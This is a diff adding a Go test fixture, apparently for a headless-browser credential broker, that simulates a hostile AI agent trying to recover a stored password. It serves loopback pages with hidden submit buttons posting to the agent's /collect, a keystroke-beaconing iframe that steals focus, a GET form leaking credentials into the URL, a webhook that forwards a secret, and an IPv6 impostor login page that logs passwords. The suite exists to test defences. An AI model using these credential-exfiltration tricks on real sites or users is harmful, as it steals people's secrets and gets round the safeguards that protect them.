@@ -1,0 +1,414 @@
+//go:build linux
+
+package tests
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"html"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"os/exec"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+// hostileSite is the local world of the hostile-agent suite (issue 10): the credential's own
+// site, and a server of the agent's own on another loopback port. The site's pages are the
+// kinds real sites have (a "Show password" toggle, a script-driven login, client-side
+// validation, a second submit button, a GET form, a settings page with a secret field); the
+// agent drives them with ordinary headless verbs and tries to get the password back.
+//
+// Site (origin Origin()):
+//
+//	GET  /login-reveal     sign-in form (POST) with a "Show password" toggle; the password
+//	                       input is named "pw" with a generated id, so no name heuristic sees it
+//	POST /login-reveal     right password: 303 /home; wrong: the form again with an alert
+//	GET  /spa-reveal       the same form, submitted by script (fetch /api/login); a failure
+//	                       shows an alert and leaves the field as it is
+//	GET  /sticky           like /spa-reveal, but the page puts the typed value back into the
+//	                       field whenever it is emptied (a framework restoring its state)
+//	GET  /validate         the form has a required checkbox: the browser refuses to submit
+//	GET  /steal-focus      typing into the password field moves the focus elsewhere
+//	GET  /two-buttons      script login on the default button, and a second visible submit
+//	                       button whose formaction is the agent's server
+//	GET  /two-buttons-get  the second button submits with formmethod=get to this origin
+//	GET  /hidden-submitter the form's first submit button is hidden and posts to the agent
+//	GET  /login-get        a GET sign-in form; GET /login-get-done answers "Invalid credentials"
+//	                       with the submitted fields in its URL
+//	GET  /settings         a settings form: a signing secret (type=password) and a webhook URL;
+//	                       POST /settings delivers the secret to that URL, server to server
+//	GET  /focus-iframe     focusing the account field moves the focus into an iframe of the
+//	                       agent's server
+//	GET  /home             "Welcome ACCOUNT" when signed in
+//	POST /api/login        JSON login for the script-driven pages
+//	POST /reveal?n=N       what the toggle saw: the length of the field's value when clicked
+//
+// Agent server (origin AgentOrigin()): records every request (method, path, query, body).
+//
+//	GET  /back2            runs history.go(-2) (back to the login document of a just signed-in
+//	                       session)
+//	GET  /typed-frame      an input that takes the focus and reports what is typed into it
+type hostileSite struct {
+	site, agent *httptest.Server
+
+	mu       sync.Mutex
+	accounts map[string]string
+	sessions map[string]string
+	reveals  []int       // value lengths the toggle saw, in order
+	posts    []loginPost // credential submissions the site received
+	agentLog []string    // every request to the agent's server
+}
+
+func newHostileSite(t testing.TB) *hostileSite {
+	hs := &hostileSite{accounts: map[string]string{}, sessions: map[string]string{}}
+	hs.agent = httptest.NewServer(hs.agentMux())
+	t.Cleanup(hs.agent.Close)
+	hs.site = httptest.NewServer(hs.siteMux())
+	t.Cleanup(hs.site.Close)
+	return hs
+}
+
+func (hs *hostileSite) Origin() string              { return hs.site.URL }
+func (hs *hostileSite) URL(path string) string      { return hs.site.URL + path }
+func (hs *hostileSite) AgentOrigin() string         { return hs.agent.URL }
+func (hs *hostileSite) AgentURL(path string) string { return hs.agent.URL + path }
+
+func (hs *hostileSite) SetAccount(account, password string) {
+	hs.mu.Lock()
+	defer hs.mu.Unlock()
+	hs.accounts[account] = password
+}
+
+func (hs *hostileSite) check(account, password string) bool {
+	hs.mu.Lock()
+	defer hs.mu.Unlock()
+	want, ok := hs.accounts[account]
+	return ok && want != "" && want == password
+}
+
+func (hs *hostileSite) Posts() []loginPost {
+	hs.mu.Lock()
+	defer hs.mu.Unlock()
+	return append([]loginPost(nil), hs.posts...)
+}
+
+func (hs *hostileSite) Reveals() []int {
+	hs.mu.Lock()
+	defer hs.mu.Unlock()
+	return append([]int(nil), hs.reveals...)
+}
+
+// AgentLog is every request the agent's server received, one line each.
+func (hs *hostileSite) AgentLog() []string {
+	hs.mu.Lock()
+	defer hs.mu.Unlock()
+	return append([]string(nil), hs.agentLog...)
+}
+
+func (hs *hostileSite) record(p loginPost) {
+	hs.mu.Lock()
+	defer hs.mu.Unlock()
+	hs.posts = append(hs.posts, p)
+}
+
+func (hs *hostileSite) signIn(w http.ResponseWriter, account string) {
+	sid := "s" + strconv.FormatInt(time.Now().UnixNano(), 36)
+	hs.mu.Lock()
+	hs.sessions[sid] = account
+	hs.mu.Unlock()
+	http.SetCookie(w, &http.Cookie{Name: "hs_sid", Value: sid, Path: "/", HttpOnly: true})
+}
+
+func (hs *hostileSite) account(r *http.Request) string {
+	c, err := r.Cookie("hs_sid")
+	if err != nil {
+		return ""
+	}
+	hs.mu.Lock()
+	defer hs.mu.Unlock()
+	return hs.sessions[c.Value]
+}
+
+func hsPage(w http.ResponseWriter, title, body string) {
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	fmt.Fprintf(w, "<!doctype html><html><head><meta charset=\"utf-8\"><title>%s</title></head><body>%s</body></html>",
+		html.EscapeString(title), body)
+}
+
+// hsToggle is the site's own "Show password" button: it flips the field between password and
+// text, and tells the site how long the field's value was when clicked (never the value).
+const hsToggle = `<button type="button" id="reveal" onclick="
+  var f = document.querySelector('[name=pw]');
+  f.type = f.type === 'password' ? 'text' : 'password';
+  navigator.sendBeacon('/reveal?n=' + f.value.length);">Show password</button>`
+
+// hsFields are the sign-in fields: an account field and a password field named "pw" with a
+// generated id (no "pass" in sight), labelled for people.
+const hsFields = `<label for="acct">Email</label> <input type="email" id="acct" name="username" autocomplete="username">
+ <label for="f_9x2">Password</label> <input type="password" id="f_9x2" name="pw" autocomplete="current-password">`
+
+// hsScriptLogin submits the form with fetch when the submitter is the default button (id
+// main) and shows an alert on failure, leaving the fields as they are. With sticky, the page
+// keeps the typed password and puts it back whenever the field is emptied.
+func hsScriptLogin(sticky bool) string {
+	s := `<script>
+var kept = "";
+document.getElementById("f").addEventListener("submit", function (ev) {
+  if (ev.submitter && ev.submitter.id !== "main") { return; }
+  ev.preventDefault();
+  var f = ev.target;
+  kept = f.pw.value;
+  fetch("/api/login", {method: "POST", headers: {"Content-Type": "application/json"},
+    body: JSON.stringify({username: f.username.value, password: f.pw.value})})
+  .then(function (r) { return r.json(); })
+  .then(function (j) {
+    if (j.ok) { location.href = "/home"; return; }
+    document.getElementById("msg").innerHTML = '<p role="alert">Invalid credentials</p>';
+  });
+});
+`
+	if sticky {
+		s += `setInterval(function () { var p = document.querySelector("[name=pw]"); if (kept && p.value === "") { p.value = kept; } }, 50);
+`
+	}
+	return s + `</script>`
+}
+
+func (hs *hostileSite) siteMux() *http.ServeMux {
+	mux := http.NewServeMux()
+	loginForm := func(alert string) string {
+		return alert + `<h1>Sign in to Example</h1>
+<form id="f" method="post" action="/login-reveal">` + hsFields + hsToggle + `
+ <button type="submit" id="main">Sign in</button>
+</form>`
+	}
+	mux.HandleFunc("GET /login-reveal", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", loginForm(""))
+	})
+	mux.HandleFunc("POST /login-reveal", func(w http.ResponseWriter, r *http.Request) {
+		r.ParseForm()
+		u, p := r.PostForm.Get("username"), r.PostForm.Get("pw")
+		hs.record(loginPost{"site", "/login-reveal", u, p})
+		if !hs.check(u, p) {
+			hsPage(w, "Sign in", loginForm(`<p role="alert">Invalid credentials</p>`))
+			return
+		}
+		hs.signIn(w, u)
+		http.Redirect(w, r, "/home", http.StatusSeeOther)
+	})
+	mux.HandleFunc("GET /home", func(w http.ResponseWriter, r *http.Request) {
+		if a := hs.account(r); a != "" {
+			hsPage(w, "Home", `<h1>Welcome `+html.EscapeString(a)+`</h1><a href="/login-reveal">Sign in again</a>`)
+			return
+		}
+		hsPage(w, "Home", `<h1>Not signed in</h1>`)
+	})
+	mux.HandleFunc("POST /api/login", func(w http.ResponseWriter, r *http.Request) {
+		var in struct{ Username, Password string }
+		json.NewDecoder(io.LimitReader(r.Body, 64<<10)).Decode(&in)
+		hs.record(loginPost{"site", "/api/login", in.Username, in.Password})
+		ok := hs.check(in.Username, in.Password)
+		if ok {
+			hs.signIn(w, in.Username)
+		}
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprintf(w, `{"ok":%v}`, ok)
+	})
+	mux.HandleFunc("POST /reveal", func(w http.ResponseWriter, r *http.Request) {
+		n, err := strconv.Atoi(r.URL.Query().Get("n"))
+		if err != nil {
+			n = -1
+		}
+		hs.mu.Lock()
+		hs.reveals = append(hs.reveals, n)
+		hs.mu.Unlock()
+		w.WriteHeader(http.StatusNoContent)
+	})
+	scriptPage := func(sticky bool) http.HandlerFunc {
+		return func(w http.ResponseWriter, r *http.Request) {
+			hsPage(w, "Sign in", `<h1>Sign in (app)</h1><div id="msg"></div>
+<form id="f" method="post" action="/spa-reveal">`+hsFields+hsToggle+`
+ <button type="submit" id="main">Sign in</button>
+</form>`+hsScriptLogin(sticky))
+		}
+	}
+	mux.HandleFunc("GET /spa-reveal", scriptPage(false))
+	mux.HandleFunc("GET /sticky", scriptPage(true))
+	mux.HandleFunc("GET /validate", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", `<h1>Sign in</h1>
+<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
+ <label><input type="checkbox" name="terms" required> I accept the terms</label>
+ <button type="submit" id="main">Sign in</button>
+</form>`)
+	})
+	mux.HandleFunc("GET /steal-focus", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", `<h1>Sign in</h1>
+<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
+ <label for="note">Note</label> <textarea id="note" name="note"></textarea>
+ <button type="submit" id="main">Sign in</button>
+</form>
+<script>document.querySelector("[name=pw]").addEventListener("input", function () { document.getElementById("note").focus(); });</script>`)
+	})
+	mux.HandleFunc("GET /two-buttons", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", `<h1>Sign in</h1><div id="msg"></div>
+<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
+ <button type="submit" id="main">Sign in</button>
+ <button type="submit" id="partner" formaction="`+hs.agent.URL+`/collect">Sign in with Partner</button>
+</form>`+hsScriptLogin(false))
+	})
+	mux.HandleFunc("GET /two-buttons-get", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", `<h1>Sign in</h1><div id="msg"></div>
+<form id="f" method="post" action="/login-reveal">`+hsFields+hsToggle+`
+ <button type="submit" id="main">Sign in</button>
+ <button type="submit" id="quick" formmethod="get" formaction="/login-get-done">Quick sign in</button>
+</form>`+hsScriptLogin(false))
+	})
+	mux.HandleFunc("GET /hidden-submitter", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", `<h1>Sign in</h1><div id="msg"></div>
+<form id="f" method="post" action="/login-reveal">
+ <button type="submit" id="sneaky" style="display:none" formaction="`+hs.agent.URL+`/collect">Go</button>
+`+hsFields+hsToggle+`
+ <button type="submit" id="main">Sign in</button>
+</form>`+hsScriptLogin(false))
+	})
+	mux.HandleFunc("GET /login-get", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", `<h1>Sign in</h1>
+<form id="f" method="get" action="/login-get-done">`+hsFields+hsToggle+`
+ <button type="submit" id="main">Sign in</button>
+</form>`)
+	})
+	mux.HandleFunc("GET /login-get-done", func(w http.ResponseWriter, r *http.Request) {
+		q := r.URL.Query()
+		hs.record(loginPost{"site", "/login-get-done", q.Get("username"), q.Get("pw")})
+		hsPage(w, "Sign in", `<p role="alert">Invalid credentials</p><a href="/login-get">Try again</a>`)
+	})
+	mux.HandleFunc("GET /settings", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Webhook settings", `<h1>Webhook settings</h1>
+<form method="post" action="/settings">
+ <label for="sec">Signing secret</label> <input type="password" id="sec" name="secret">
+ <label for="hook">Webhook URL</label> <input type="url" id="hook" name="webhook_url">
+ <button type="submit">Save</button>
+</form>`)
+	})
+	mux.HandleFunc("POST /settings", func(w http.ResponseWriter, r *http.Request) {
+		r.ParseForm()
+		secret, hook := r.PostForm.Get("secret"), r.PostForm.Get("webhook_url")
+		hs.record(loginPost{"site", "/settings", hook, secret})
+		if strings.HasPrefix(hook, "http://127.0.0.1:") { // the site delivers a test event, server to server
+			if resp, err := http.PostForm(hook, url.Values{"secret": {secret}}); err == nil {
+				resp.Body.Close()
+			}
+		}
+		hsPage(w, "Webhook settings", `<p>Saved. A test event was sent.</p>`)
+	})
+	mux.HandleFunc("GET /focus-iframe", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Sign in", `<h1>Sign in</h1>
+<form id="f" method="post" action="/login-reveal">`+hsFields+`
+ <button type="submit" id="main">Sign in</button>
+</form>
+<iframe id="fr" src="`+hs.agent.URL+`/typed-frame" title="help" width="300" height="60"></iframe>
+<script>document.getElementById("acct").addEventListener("focus", function () { document.getElementById("fr").focus(); });</script>`)
+	})
+	return mux
+}
+
+func (hs *hostileSite) agentMux() http.Handler {
+	mux := http.NewServeMux()
+	mux.HandleFunc("GET /back2", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Elsewhere", `<h1>Elsewhere</h1><script>setTimeout(function () { history.go(-2); }, 50);</script>`)
+	})
+	mux.HandleFunc("GET /typed-frame", func(w http.ResponseWriter, r *http.Request) {
+		hsPage(w, "Help", `<input id="x" aria-label="help">
+<script>
+var x = document.getElementById("x");
+window.addEventListener("focus", function () { x.focus(); });
+x.addEventListener("input", function () { navigator.sendBeacon("/typed?v=" + encodeURIComponent(x.value)); });
+</script>`)
+	})
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, "<!doctype html><title>ok</title><p>ok</p>")
+	})
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<10))
+		hs.mu.Lock()
+		hs.agentLog = append(hs.agentLog, fmt.Sprintf("%s %s body=%s", r.Method, r.URL.RequestURI(), body))
+		hs.mu.Unlock()
+		mux.ServeHTTP(w, r)
+	})
+}
+
+// The loopback impostor (class 6): a server of the agent's own, in a process of its own,
+// bound to [::1]:PORT while the real development server listens on 127.0.0.1:PORT only. The
+// test binary plays it when HEADLESS_TEST_ROLE=v6-impostor (see TestMain): it serves a sign-in
+// form at /login, appends every submission to HEADLESS_TEST_LOG and prints "ready" once it
+// listens.
+
+const roleEnv = "HEADLESS_TEST_ROLE"
+
+// runTestRole runs the test binary as a helper process of a test and returns its exit status.
+func runTestRole(role string) int {
+	switch role {
+	case "v6-impostor":
+		l, err := net.Listen("tcp6", os.Getenv("HEADLESS_TEST_ADDR"))
+		if err != nil {
+			fmt.Println("listen:", err)
+			return 1
+		}
+		logFile := os.Getenv("HEADLESS_TEST_LOG")
+		mux := http.NewServeMux()
+		mux.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) {
+			hsPage(w, "Sign in", `<h1>Sign in to the dev server</h1>
+<form method="post" action="/login">
+ <label>Email <input type="email" name="username" autocomplete="username"></label>
+ <label>Password <input type="password" name="password" autocomplete="current-password"></label>
+ <button type="submit">Sign in</button>
+</form>`)
+		})
+		mux.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) {
+			r.ParseForm()
+			if f, err := os.OpenFile(logFile, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600); err == nil {
+				fmt.Fprintf(f, "user=%s password=%s\n", r.PostForm.Get("username"), r.PostForm.Get("password"))
+				f.Close()
+			}
+			hsPage(w, "Thanks", `<p>Thanks</p>`)
+		})
+		fmt.Println("ready")
+		http.Serve(l, mux)
+		return 0
+	}
+	fmt.Fprintf(os.Stderr, "unknown %s %q\n", roleEnv, role)
+	return 2
+}
+
+// startImpostor runs the loopback impostor on [::1]:port in a child process.
+func startImpostor(t *testing.T, port int, logFile string) int {
+	t.Helper()
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(exe)
+	cmd.Env = append(os.Environ(), roleEnv+"=v6-impostor", "HEADLESS_TEST_ADDR=[::1]:"+strconv.Itoa(port), "HEADLESS_TEST_LOG="+logFile)
+	out, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+	line, _ := bufio.NewReader(out).ReadString('\n')
+	if strings.TrimSpace(line) != "ready" {
+		t.Fatalf("the impostor did not start: %q", line)
+	}
+	return cmd.Process.Pid
+}
